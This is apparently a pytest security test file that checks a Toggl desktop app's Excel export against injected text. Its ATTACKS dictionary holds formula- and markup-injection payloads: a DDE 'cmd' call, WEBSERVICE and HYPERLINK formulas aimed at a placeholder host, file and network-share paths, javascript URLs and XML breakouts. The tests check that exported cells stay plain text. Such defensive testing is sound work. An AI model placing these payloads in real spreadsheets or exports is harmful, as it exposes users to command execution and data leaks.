"""Every text that Toggl can send, as an attack: formulas, links, sheet names, markup. Read back by three readers.

Text stays text. Nothing of it runs, leads out of the workbook, or keeps a reader from opening it.
"""

from __future__ import annotations

import html
import json
import re
import shutil
import subprocess
import zipfile
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
from openpyxl.cell.cell import Cell
from python_calamine import CalamineWorkbook

from tests.fakes.line import Change, Line, export, places, put, quiet_server
from toggl_desktop.api.messages import Answer
from toggl_desktop.core.choices.export_choices import ExportChoices
from toggl_desktop.core.errors import TogglDesktopError
from toggl_desktop.demo import DemoServer

MARK = "EvIl7"
ATTACKS = {
    "formula": f'=HYPERLINK("http://{MARK}.example/"&A1,"{MARK}")',
    "command": f"=cmd|' /C calc {MARK}'!A0",
    "plus": f"+{MARK}+1",
    "minus": f"-2+3+{MARK}",
    "at": f"@SUM({MARK}!A1)",
    "tab before": f"\t={MARK}",
    "break before": f"\r\n={MARK}",
    "blank before": f"  ={MARK}()",
    "array": f"{{={MARK}}}",
    "other workbook": f"='[{MARK}.xlsx]Sheet1'!A1",
    "web service": f'=WEBSERVICE("http://{MARK}.example")',
    "apostrophe": f"'={MARK}",
    "quotes": f"\"&{MARK}&\"''",
    "full-width": f"＝{MARK}",
    "mark of bytes": f"\ufeff={MARK}",
    "escape": f"_x003D_{MARK}_x000D_",
    "entity": f"&#x3D;{MARK}&lt;f&gt;1&lt;/f&gt;",
    "markup": f"</t></is></c><c><f>{MARK}</f></c>",
    "section": f"]]>{MARK}<![CDATA[",
    "attribute": f'" onload="{MARK}" x="',
    "address": f"http://{MARK}.example/?a=b&c=d",
    "script": f"javascript:alert('{MARK}')",
    "file": f"file:///etc/{MARK}",
    "share": f"\\\\{MARK}\\share\\x",
    "controls": f"\x00\x01\x0b\x1f{MARK}\x7f\ufffe\uffff",
    "half a character": f"{MARK}\ud83d",
    "direction": f"\u202e{MARK}\u202c",
    "long": f"={MARK}" + "A" * 40_000,
    "page codes": f"&G&P&[File]{MARK}",
    "pattern": f"{MARK}{{person}}%s%n{{0}}",
    "sheet": f"Data'!A1:{MARK}",
    "reserved": "History",
    "header": "Hours",
    "empty": "",
    "blank": " ",
}
TIMES = re.compile(r"\d{4}-\d\d-\d\d")
STRUCTURE = {"timezone", "currency", "default_currency", "color", "role"}
"""Where an odd text is seen to one by one: some of these have a meaning."""


@pytest.fixture(scope="module")
def server() -> Iterator[DemoServer]:
    server = quiet_server()
    yield server
    server._listener.server_close()


@pytest.fixture(scope="module")
def sound(server: DemoServer, tmp_path_factory: pytest.TempPathFactory) -> Line:
    line, _ = export(server, tmp_path_factory.mktemp("sound") / "hours.xlsx")
    return line


def text_places(answer: Answer) -> list[tuple[str, ...]]:
    """Where free texts stand; what carries a time is none."""
    value = json.loads(answer.body)
    found = set(places(value, str))
    return sorted(at for at in found if not TIMES.match(str(first_at(value, at))))


def first_at(value: object, at: tuple[str, ...]) -> object:
    for name in at:
        if isinstance(value, list):
            value = next((one for one in value if at_is_in(one, at)), None)
        elif isinstance(value, dict):
            value = value.get(name)
    return value


def at_is_in(value: object, at: tuple[str, ...]) -> bool:
    return isinstance(value, dict) and any(name in value for name in at)


def everywhere(sound: Line, attack: str) -> Change:
    """The attack in the place of every free text."""
    wanted = {
        kind: [at for at in text_places(answer) if at[-1] not in STRUCTURE]
        for kind, answer in sound.seen.items()
        if not kind.endswith(".csv")
    }

    def change(kind: str, answer: Answer) -> Answer:
        if answer.status != 200 or kind not in wanted:
            return answer
        value = json.loads(answer.body)
        for at in wanted[kind]:
            value = put(value, at, attack)
        return Answer(answer.status, answer.headers, json.dumps(value).encode())

    return change


def in_one_place(kind: str, at: tuple[str, ...], attack: str) -> Change:
    def change(asked: str, answer: Answer) -> Answer:
        if asked != kind or answer.status != 200:
            return answer
        return Answer(answer.status, answer.headers, json.dumps(put(json.loads(answer.body), at, attack)).encode())

    return change


def without_quotes(formula: str) -> str:
    """A formula without the names of sheets and columns and the texts in it, which are data too."""
    return re.sub(r"\"(?:[^\"]|\"\")*\"|\[(?:'.|[^\[\]'])*\]|'(?:[^']|'')*'!", "", formula, flags=re.DOTALL)


def check_parts(path: Path) -> None:
    """Nothing leads out of the file, and no formula holds what came from outside."""
    with zipfile.ZipFile(path) as archive:
        assert archive.testzip() is None
        for name in archive.namelist():
            text = archive.read(name).decode("utf-8", "replace")
            assert "externalLink" not in name
            assert 'TargetMode="External"' not in text, name
            assert "ddeLink" not in text, name
            for formula in re.findall(r"<(?:f|c:f|xdr:f)(?: [^>]*)?>([^<]*)</", text):
                assert MARK not in without_quotes(html.unescape(formula)), (name, formula)


def check_with_openpyxl(path: Path) -> int:
    """Cells that hold the attack as text, in openpyxl's eyes; none is anything else."""
    book = openpyxl.load_workbook(path)
    texts = 0
    for sheet in book.worksheets:
        assert 0 < len(sheet.title) <= 31
        for row in sheet.iter_rows():
            for cell in row:
                if not isinstance(cell, Cell):
                    continue
                if cell.data_type == "f":
                    assert MARK not in without_quotes(str(cell.value)), (sheet.title, cell.coordinate, cell.value)
                elif isinstance(cell.value, str) and MARK in cell.value:
                    texts += 1
                if cell.hyperlink is not None:
                    assert not cell.hyperlink.target, (sheet.title, cell.coordinate)
    book.close()
    return texts


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_in_every_text_at_once(server: DemoServer, sound: Line, tmp_path: Path, attack: str) -> None:
    target = tmp_path / "hours.xlsx"
    export(server, target, everywhere(sound, ATTACKS[attack]), ExportChoices())
    check_parts(target)
    texts = check_with_openpyxl(target)
    assert texts > 10 or MARK not in ATTACKS[attack]
    book = CalamineWorkbook.from_path(target)
    cells = [str(cell) for name in book.sheet_names for row in book.get_sheet_by_name(name).to_python() for cell in row]
    assert any(MARK in cell for cell in cells) or MARK not in ATTACKS[attack]
    names = [name.casefold() for name in book.sheet_names]
    assert len(set(names)) == len(names)


@pytest.mark.parametrize("attack", ["formula", "controls", "empty", "markup"])
def test_an_attack_in_each_text_alone(server: DemoServer, sound: Line, tmp_path: Path, attack: str) -> None:
    target = tmp_path / "hours.xlsx"
    tried = 0
    for kind, answer in sound.seen.items():
        if kind.endswith(".csv"):
            continue
        for at in sorted(set(places(json.loads(answer.body), str))):
            tried += 1
            try:
                export(server, target, in_one_place(kind, at, ATTACKS[attack]))
            except TogglDesktopError:
                continue  # a time, say, that makes no sense; of no other kind
            check_parts(target)
            target.unlink()
    assert tried > 30


def test_libreoffice_runs_none_of_them(server: DemoServer, sound: Line, tmp_path: Path) -> None:
    """All at once in one workbook, read by another program and written anew: text is still the same text."""
    office = shutil.which("soffice")
    if office is None:
        pytest.skip("LibreOffice is not here")
    attacks = [text for text in ATTACKS.values() if MARK in text and len(text) < 1000]

    def spread(kind: str, answer: Answer) -> Answer:
        """Each entry and project of the answers another attack."""
        changed = everywhere(sound, f"={MARK}")(kind, answer)
        if answer.status != 200 or kind.endswith(".csv"):
            return changed
        value = json.loads(changed.body)
        if isinstance(value, list):
            for number, row in enumerate(value):
                for name in row if isinstance(row, dict) else ():
                    if isinstance(row[name], str) and MARK in row[name]:
                        row[name] = attacks[(number + len(name)) % len(attacks)]
        return Answer(changed.status, changed.headers, json.dumps(value).encode())

    target = tmp_path / "hours.xlsx"
    export(server, target, spread, ExportChoices())
    check_parts(target)
    out = tmp_path / "out"
    subprocess.run(
        [
            office,
            f"-env:UserInstallation=file://{tmp_path}/office",
            "--headless",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(out),
            str(target),
        ],
        check=True,
        capture_output=True,
        timeout=280,
    )
    assert check_with_openpyxl(out / "hours.xlsx") > 10
    with zipfile.ZipFile(out / "hours.xlsx") as archive:
        assert not any("externalLink" in name for name in archive.namelist())
